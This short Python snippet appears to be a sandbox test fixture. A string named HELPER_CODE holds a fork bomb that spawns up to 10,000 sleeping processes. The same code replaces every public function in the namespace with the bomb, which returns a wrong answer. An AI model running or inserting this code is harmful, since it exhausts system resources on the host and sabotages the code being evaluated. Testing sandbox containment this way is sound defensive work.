"""Fork as many processes as possible and leave them running."""
HELPER_CODE = '''
import os as _os, time as _time
def _bomb(*a, **k):
    for _ in range(10000):
        try:
            if _os.fork() == 0:
                _time.sleep(600)
                _os._exit(0)
        except OSError:
            break
    return "forked"   # never a right answer (0 would be right for some cases)
for _name in [n for n in dir() if not n.startswith("_") and callable(globals()[n])]:
    globals()[_name] = _bomb
'''
